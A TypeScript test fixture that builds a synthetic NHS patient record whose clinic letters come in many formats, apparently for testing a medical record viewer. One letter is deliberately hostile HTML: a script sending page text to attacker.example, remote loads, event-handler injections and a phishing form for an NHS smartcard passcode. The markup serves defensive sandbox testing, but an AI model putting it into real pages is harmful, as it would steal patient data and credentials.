import { practiceLife } from '../life.ts';
import { testNhsNumber } from '../nhs-numbers.ts';
import { openResident } from '../patient.ts';
import type { Resident } from '../patient.ts';
import type { Random } from '../random.ts';
import { SOURCES } from '../sources.ts';
import { caseNotes, scannedNotes } from '../scans.ts';
import { letter } from '../write/letters.ts';

/**
 * Hostile markup as a letter could carry it. Sandbox test material: a viewer must show the words and run, load,
 * submit or follow nothing. `example` hosts cannot exist.
 */
const HOSTILE_HTML = [
  '<!doctype html><html><head><title>Clinic letter</title>',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example/away">',
  '<base href="https://attacker.example/"><link rel="stylesheet" href="https://attacker.example/a.css">',
  '<style>@import url("https://attacker.example/b.css"); body { background: url(https://attacker.example/c.png) }</style>',
  '<script>window.hostileLetterRan = true; fetch("https://attacker.example/steal?" + document.body.innerText)</script>',
  '</head><body onload="window.hostileLetterRan = true">',
  '<h1>Dermatology clinic letter</h1><p>The mole on her back is harmless.</p>',
  '<img src="https://attacker.example/pixel.png" alt="tracking" onerror="window.hostileLetterRan = true">',
  '<svg xmlns="http://www.w3.org/2000/svg" onload="window.hostileLetterRan = true"><script>window.hostileLetterRan = true</script></svg>',
  '<iframe src="https://attacker.example/frame"></iframe><object data="https://attacker.example/o"></object>',
  '<form action="https://attacker.example/password" method="post"><label>NHS smartcard passcode ',
  '<input name="passcode" type="password"></label><button>Continue</button></form>',
  '<a href="javascript:window.hostileLetterRan=true">See the photograph</a>',
  '<p style="position:fixed;inset:0;background:white">Allergies: none</p>',
  '<p>No follow-up is needed.</p></body></html>',
].join('\n');

/** What a clinic letter looks like: headings, a table of values, a list, a correction and words hidden by a style. */
const CLINIC_LETTER = [
  '<!doctype html><html lang="en-GB"><head><meta charset="utf-8"><title>Diabetes clinic letter</title></head><body>',
  '<h1>Diabetes clinic letter</h1>',
  '<p>Dear Dr Example,<br>Thank you for referring <b>Mrs Holt</b>, seen on 15-Jul-2026.</p>',
  '<h2>Results</h2>',
  '<table border="1"><caption>Blood tests</caption><thead><tr><th>Test</th><th>Mar-2026</th><th>Jul-2026</th></tr></thead>',
  '<tbody><tr><th>HbA1c</th><td>58 mmol/mol</td><td>52 mmol/mol</td></tr>',
  '<tr><th>eGFR</th><td>64 mL/min/1.73 m<sup>2</sup></td><td>66 mL/min/1.73 m<sup>2</sup></td></tr>',
  '<tr><th>Urine ACR</th><td colspan="2">below 3 mg/mmol at both visits</td></tr></tbody></table>',
  '<h2>Medication</h2>',
  '<ul><li>Metformin <del>1 g</del> <ins>500 mg</ins> twice a day</li><li>Atorvastatin 20 mg at night</li></ul>',
  '<p style="display: none">Previous draft: stop metformin.</p>',
  '<h2>Plan</h2><ol><li>HbA1c in six months.</li><li>Eye screening is due in September.</li></ol>',
  '<p>The leaflet is at <a href="https://leaflets.example/diabetes">our web page</a>.</p>',
  '<p><img src="cid:signature" alt="Signature of Dr Example"></p>',
  '</body></html>',
].join('\n');

/** Mrs Patricia Holt: letters in every format, and one that is hostile. */
export function letterResident(random: Random): Resident {
  const resident = openResident(
    random,
    {
      patientId: 'patricia-holt',
      nhsNumber: testNhsNumber(26),
      prefix: 'Mrs',
      given: ['Patricia'],
      family: 'Holt',
      born: '1953-07-19',
      gender: 'female',
      address: ['64 Fictional Way', 'WA9 1AK'],
      practice: SOURCES.sankeyBrook,
    },
    {
      story:
        'Letters as HTML, PDF, plain text of two character sets, a picture and RTF, as Binary and within the ' +
        'DocumentReference; one has hostile markup (script, remote image, form), the content of one is refused, and ' +
        'that of another is not there any more; scanned notes with pictures, one of them damaged, and large ones of many pages.',
    },
  );
  const hospital = resident.chart.at(SOURCES.whiston);
  const gp = resident.chart.at(SOURCES.sankeyBrook);
  letter(hospital, {
    title: 'Rheumatology clinic letter',
    day: '2026-03-11',
    staff: 4,
    format: 'html',
    paragraphs: [
      'Diagnosis: polymyalgia rheumatica, in remission.',
      'Prednisolone down to 2.5 mg a day; stop in eight weeks if well. Inflammatory markers < 5 & stable.',
    ],
  });
  letter(hospital, {
    title: 'Dermatology clinic letter',
    day: '2026-05-20',
    staff: 4,
    format: 'html',
    html: HOSTILE_HTML,
    paragraphs: [],
  });
  letter(hospital, {
    title: 'Discharge summary, day case',
    kind: 'Discharge summary',
    day: '2026-06-02',
    staff: 4,
    format: 'pdf',
    paragraphs: [
      'Admitted as a day case for gastroscopy on 02-Jun-2026. Findings: small hiatus hernia, no ulcer.',
      'Medicines unchanged. No follow-up at the hospital.',
    ],
  });
  letter(resident.chart.at(SOURCES.communityNursing), {
    title: 'Podiatry report',
    day: '2026-08-04',
    format: 'text',
    staff: 2,
    paragraphs: ['Feet checked. Pulses present, sensation normal.', 'Insoles ordered: left 5 mm, right 5 mm.'],
  });
  letter(gp, {
    title: 'Letter to the patient: bowel screening result',
    day: '2026-09-09',
    format: 'text',
    inline: true,
    paragraphs: ['Your bowel screening result was normal. No further tests are needed now.'],
  });
  letter(hospital, {
    title: 'Diabetes clinic letter',
    day: '2026-07-15',
    staff: 4,
    format: 'html',
    html: CLINIC_LETTER,
    paragraphs: [],
  });
  letter(gp, {
    title: 'Letter from the optician',
    day: '2026-07-22',
    format: 'oldText',
    paragraphs: ['Seen by Mr André Müller. Visual acuity 6/9 both eyes, prescription +1.25 ± 0.25 at 5°. Fee £35.'],
  });
  letter(hospital, {
    title: 'Rhythm strip',
    kind: 'ECG',
    day: '2026-06-02',
    staff: 4,
    format: 'picture',
    paragraphs: [],
  });
  letter(resident.chart.at(SOURCES.communityNursing), {
    title: 'Wound care plan',
    kind: 'Care plan document',
    day: '2026-08-20',
    staff: 2,
    format: 'rtf',
    paragraphs: ['Dressing twice a week.'],
  });
  letter(hospital, {
    title: 'Psychology letter',
    day: '2026-08-28',
    staff: 4,
    format: 'pdf',
    content: 'restricted',
    paragraphs: ['For the team that treats her only.'],
  });
  letter(hospital, {
    title: 'Scanned letter of the old records system',
    day: '2026-09-01',
    format: 'pdf',
    content: 'gone',
    paragraphs: ['Not held any more.'],
  });
  letter(hospital, {
    title: 'Scanned notes with pictures',
    kind: 'Scanned notes',
    day: '2026-02-03',
    format: 'pdf',
    data: scannedNotes(),
    paragraphs: [],
  });
  letter(hospital, {
    title: 'Case notes 2019 to 2025',
    kind: 'Scanned notes',
    day: '2026-01-12',
    format: 'pdf',
    data: caseNotes(60),
    paragraphs: [],
  });
  practiceLife(gp, { fromYear: 2021, toYear: 2026, visits: 2 });
  return resident;
}
